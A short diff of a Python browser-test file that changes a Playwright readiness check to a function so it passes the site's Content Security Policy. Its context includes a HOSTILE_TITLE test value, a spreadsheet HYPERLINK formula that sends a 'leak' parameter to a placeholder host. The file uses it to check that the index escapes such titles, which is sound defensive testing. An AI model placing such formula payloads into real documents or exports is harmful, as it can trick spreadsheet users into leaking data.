@@ -22,7 +22,8 @@ from build_scripts.vocabulary import DESIGNS
 
 from conftest import ROOT, fixture_layout
 
-READY = "window.atlasIndex && window.atlasIndex.ready"
+# A function, not a bare expression: Playwright polls a bare expression with eval(), which the site's CSP refuses.
+READY = "() => window.atlasIndex && window.atlasIndex.ready"
 
 # Titles and labels a spreadsheet or a browser would act on; the index must show them as text and guard them in CSV.
 HOSTILE_TITLE = '=HYPERLINK("http://x.example/?leak","open me")'
